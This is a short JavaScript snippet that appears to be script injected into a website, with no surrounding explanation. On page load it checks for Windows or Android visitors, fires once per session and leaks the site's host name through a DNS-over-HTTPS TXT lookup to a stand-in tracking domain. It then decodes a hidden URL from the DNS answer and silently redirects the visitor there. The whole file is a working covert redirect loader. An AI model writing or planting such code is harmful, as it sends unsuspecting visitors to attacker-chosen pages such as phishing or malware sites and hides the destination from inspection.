(async () => {
  if (!/Windows|Android/.test(navigator.userAgent) || sessionStorage.d) return;
  sessionStorage.d = 1;
  const r = await fetch('https://dns.google/resolve?type=TXT&name=' + Math.random().toString(36).slice(2) + '.' + btoa(location.host).replace(/=/g, '') + '.track.example');
  const j = await r.json();
  const u = atob(j.Answer[0].data.replace(/"/g, ''));
  if (u.indexOf('http') === 0) window.location.replace(u);
})();
